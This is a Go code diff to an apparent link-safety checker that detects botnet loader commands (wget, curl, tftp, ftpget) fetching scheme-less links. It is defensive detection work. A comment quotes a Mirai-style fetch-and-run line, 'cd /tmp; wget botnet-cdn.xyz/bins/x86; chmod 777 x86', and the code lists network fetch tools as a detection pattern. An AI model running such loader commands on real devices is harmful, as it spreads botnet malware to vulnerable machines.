@@ -58,7 +58,39 @@ func hostLabels(s string) bool {
 // redirect to its build for that processor): botnets name their builds
 // so, but serve them over plain HTTP, mostly from bare addresses, to
 // devices that lack TLS. A name with an ending (bins/x86.sh, sora.arm7)
-// is judged as before.
-func tlsArchName(l *linkx.Link, file string) bool {
-	return overTLS(l) && !l.IP.IsValid() && l.Port == "" && l.Domain != "" && strings.IndexByte(file, '.') < 0
+// is judged as before. A link written with no scheme that a fetcher on
+// its line fetches (wget botnet-cdn.xyz/bins/x86: shellFetched) is not
+// over TLS: rev38c.
+func tlsArchName(l *linkx.Link, file, clean string) bool {
+	return overTLS(l) && !shellFetched(clean, l) && !l.IP.IsValid() && l.Port == "" && l.Domain != "" && strings.IndexByte(file, '.') < 0
+}
+
+// shellFetchers are the commands a device's loader fetches a build with
+// (lower case): wget and curl read an address with no scheme as
+// http://, tftp and ftpget speak no HTTP at all.
+var shellFetchers = []string{"wget", "curl", "tftp", "ftpget"}
+
+// shellFetched reports a link written with no scheme that a shell's
+// fetcher before it on its line fetches ("cd /tmp; wget
+// botnet-cdn.xyz/bins/x86; chmod 777 x86"). The chat app's browser,
+// which a bare link is opened in and served HTTPS by (overTLS), is not
+// what fetches it: wget and curl fetch it over plain HTTP, as a botnet
+// serves its builds to devices that lack TLS. Of the dl38 probes,
+// Mirai's loader lines typed bare were allowed where the same lines
+// written http:// are warned (BENCHMARKS.md, rev38c).
+func shellFetched(clean string, l *linkx.Link) bool {
+	start, end := l.Span()
+	if l.Scheme != "" || l.Carried || end <= start || end > len(clean) {
+		return false
+	}
+	before := clean[max(0, start-commandWindow):start]
+	if i := strings.LastIndexByte(before, '\n'); i >= 0 {
+		before = before[i+1:]
+	}
+	for _, f := range shellFetchers {
+		if lastWordFold(before, f) >= 0 {
+			return true
+		}
+	}
+	return false
 }
